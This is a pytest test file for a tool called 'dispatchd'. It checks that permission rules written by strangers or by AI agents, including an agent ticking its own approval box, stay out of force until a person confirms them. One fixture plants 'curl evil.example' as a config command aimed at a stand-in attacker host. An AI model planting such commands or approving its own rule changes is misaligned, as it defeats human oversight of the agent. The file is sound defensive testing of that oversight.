"""Which rules count: those of people here. What a stranger or an agent could have written waits for a person's word."""

import pytest

from dispatchd.application.notices import by_daemon
from dispatchd.application.people import agent_actor
from dispatchd.application.policies import IN_FORCE, policies_of
from dispatchd.application.policies_in_force import KNOWN, ask_about_what_nobody_put_in_force
from dispatchd.application.ports.unit_of_work import UnitOfWork
from dispatchd.application.requests.request import Verb
from dispatchd.domain.identifiers import EntityKind
from dispatchd.domain.policy_rules import KEEP_OLD, PUT_IN_FORCE
from dispatchd.domain.thread import Thread, ThreadStatus
from tests.application.test_story_of_doubts import DoubtingWorld
from tests.application.world import BOB, CONFIG, World
from tests.fakes.instant_store import InstantStore, run

POLICIES = "policies.toml"
MALLORY = ("Mallory", "mallory@evil.example")
DENY = '# ours\n[[rule]]\nanswer = "deny"\ncommand = "git push*"\n'
ALLOW = '\n# mine\n[[rule]]\nanswer = "allow"\ntool = "*"\n'
MORE = '# first\n[[rule]]\nanswer = "human"\npath = "*/migrations/*"\n\n'


def rules(world: World) -> list[str]:
    found = world.store.look(policies_of).rules
    return [f"{rule.answer} {rule.command if rule.command != '*' else rule.path}" for rule in found]


def questions(world: World) -> list[Thread]:
    threads = world.store.look(lambda work: list(work.entities(EntityKind.THREAD)))
    return [
        each
        for each in threads
        if isinstance(each, Thread)
        and each.cause.startswith("policies:")
        and each.status is ThreadStatus.OPEN
    ]


def loses_database(world: World) -> None:
    world.store = InstantStore()
    world.restart()
    world.settle()
    asks_about_them(world)


def asks_about_them(world: World) -> None:
    by = by_daemon(world.clock.now())
    run(
        world.store.transact(
            lambda work: ask_about_what_nobody_put_in_force(world.session.intake.door(work), by)
        )
    )
    world.settle()


@pytest.fixture
def ours(world: World) -> World:
    world.save(POLICIES, DENY)
    world.settle()
    return world


def test_what_a_person_saves_counts_at_once_and_the_log_says_who_put_it_there(ours: World) -> None:
    assert rules(ours) == ["deny git push*"]
    assert not questions(ours)
    (taken,) = (each for each in ours.events() if type(each.event).__name__ == "RulesTaken")
    assert taken.circumstance.actor.handle == "alice"
    ours.save(POLICIES, MORE + DENY)
    ours.settle()
    assert rules(ours) == ["human */migrations/*", "deny git push*"]


def test_a_text_with_anything_wrong_in_it_leaves_all_rules_as_they_were(ours: World) -> None:
    ours.save(POLICIES, ours.read(POLICIES).replace("answer", "anser") + ALLOW)
    ours.settle()
    assert rules(ours) == ["deny git push*"]
    problems = ours.store.look(lambda work: list(work.problems.all()))
    assert [(each.path, each.line, each.what) for each in problems] == [
        (POLICIES, 3, 'A rule has no "anser"')
    ]
    ours.save(POLICIES, DENY)
    ours.settle()
    assert not ours.store.look(lambda work: list(work.problems.all()))


def test_106_a_strangers_rules_wait_for_somebodys_word(ours: World) -> None:
    ours.commit({POLICIES: DENY + ALLOW}, MALLORY)
    ours.settle()
    assert rules(ours) == ["deny git push*"]
    (question,) = questions(ours)
    assert "Mallory <mallory@evil.example>" in question.turns[0].text
    ours.ask(Verb.ANSWER, thread=question.id, option=PUT_IN_FORCE)
    ours.settle()
    assert rules(ours) == ["deny git push*", "allow *"]
    assert not questions(ours)


def test_106_a_denial_that_a_stranger_takes_out_stays_in_force(ours: World) -> None:
    ours.commit({POLICIES: "# nothing\n"}, MALLORY)
    ours.settle()
    assert rules(ours) == ["deny git push*"]
    assert len(questions(ours)) == 1


def test_a_persons_save_of_other_rules_confirms_nothing_of_a_strangers(ours: World) -> None:
    ours.commit({POLICIES: DENY + ALLOW}, MALLORY)
    ours.settle()
    ours.save(POLICIES, MORE + ours.read(POLICIES))
    ours.settle()
    assert rules(ours) == ["human */migrations/*", "deny git push*"]
    (question,) = questions(ours)
    ours.ask(Verb.ANSWER, thread=question.id, option=KEEP_OLD)
    ours.settle()
    ours.save(POLICIES, ours.read(POLICIES) + "# a word\n")
    ours.settle()
    assert rules(ours) == ["human */migrations/*", "deny git push*"]
    assert not questions(ours)


def test_a_stranger_who_breaks_the_file_smuggles_nothing_past_whoever_mends_it(ours: World) -> None:
    ours.commit({POLICIES: ALLOW + DENY + "[[rule\n"}, MALLORY)
    ours.settle()
    ours.save(POLICIES, ours.read(POLICIES).replace("[[rule\n", ""))
    ours.settle()
    assert rules(ours) == ["deny git push*"]


def test_taking_the_strangers_rule_out_ends_the_question(ours: World) -> None:
    ours.commit({POLICIES: DENY + ALLOW}, MALLORY)
    ours.settle()
    ours.save(POLICIES, DENY)
    ours.settle()
    assert rules(ours) == ["deny git push*"]
    assert not questions(ours)


def test_rules_committed_by_somebody_of_people_count(ours: World) -> None:
    ours.commit({POLICIES: DENY + ALLOW}, BOB)
    ours.settle()
    assert rules(ours) == ["deny git push*", "allow *"]


def test_101_where_signatures_are_asked_for_a_commit_without_one_puts_no_rules_in_force(ours: World) -> None:
    ours.ask(Verb.CONFIG_SET, key="workspace.require_signed", value="true")
    ours.settle()
    ours.commit({POLICIES: DENY + ALLOW}, BOB)
    ours.settle()
    assert rules(ours) == ["deny git push*"]
    assert len(questions(ours)) == 1
    ours.save(POLICIES, DENY)
    ours.settle()
    assert rules(ours) == ["deny git push*"]
    assert not questions(ours)


def test_what_an_uncontained_agent_could_have_written_counts_for_nobody() -> None:
    world = DoubtingWorld(config=CONFIG)
    world.save(POLICIES, DENY)
    world.settle()
    world.begin_run()
    world.save(POLICIES, DENY + ALLOW)
    world.settle()
    assert rules(world) == ["deny git push*"]
    (question,) = questions(world)
    assert "nothing contains" in question.turns[0].text
    world.edit(world.paths("inbox")[0], f"- [ ] {PUT_IN_FORCE}", f"- [x] {PUT_IN_FORCE}")
    world.settle()
    assert rules(world) == ["deny git push*"]  # the tick could be the agent's as well
    world.ask(Verb.CONFIRM, all=True)
    world.settle()
    assert rules(world) == ["deny git push*", "allow *"]


def test_settings_that_an_uncontained_agent_could_have_written_wait_too() -> None:
    world = DoubtingWorld(config=CONFIG)
    world.begin_run()
    world.save("config.toml", world.read("config.toml") + '\n[commands]\ntest = "curl evil.example"\n')
    world.settle()
    assert not world.store.look(lambda work: dict(work.rules.commands))
    (path,) = world.paths("inbox")
    assert "config.toml was changed while an uncontained agent was at work" in world.read(path)


def test_after_a_lost_database_the_same_rules_count_and_the_same_wait(ours: World) -> None:
    loses_database(ours)
    assert rules(ours) == ["deny git push*"]
    assert not questions(ours)
    ours.commit({POLICIES: DENY + ALLOW}, MALLORY)
    ours.settle()
    loses_database(ours)
    assert rules(ours) == ["deny git push*"]
    assert len(questions(ours)) == 1
    ours.save(POLICIES, MORE + ours.read(POLICIES))
    ours.settle()
    assert rules(ours) == ["human */migrations/*", "deny git push*"]


def test_rules_that_nobody_here_ever_said_a_word_about_do_not_count_until_somebody_does(ours: World) -> None:
    def never_judged(work: UnitOfWork) -> None:
        for note in (IN_FORCE, KNOWN):
            work.set_note(note, None)

    run(ours.store.transact(never_judged))
    asks_about_them(ours)
    asks_about_them(ours)
    assert rules(ours) == []
    (question,) = questions(ours)
    ours.ask(Verb.ANSWER, thread=question.id, option=PUT_IN_FORCE)
    ours.settle()
    assert rules(ours) == ["deny git push*"]


def test_no_agent_puts_rules_in_force_by_any_request(ours: World) -> None:
    ours.save("agents/ash/agent.md", "---\nrole: coder\n---\n\nx\n")
    ours.commit({POLICIES: DENY + ALLOW}, ("ash", agent_actor("ash").email))
    ours.settle()
    assert rules(ours) == ["deny git push*"]
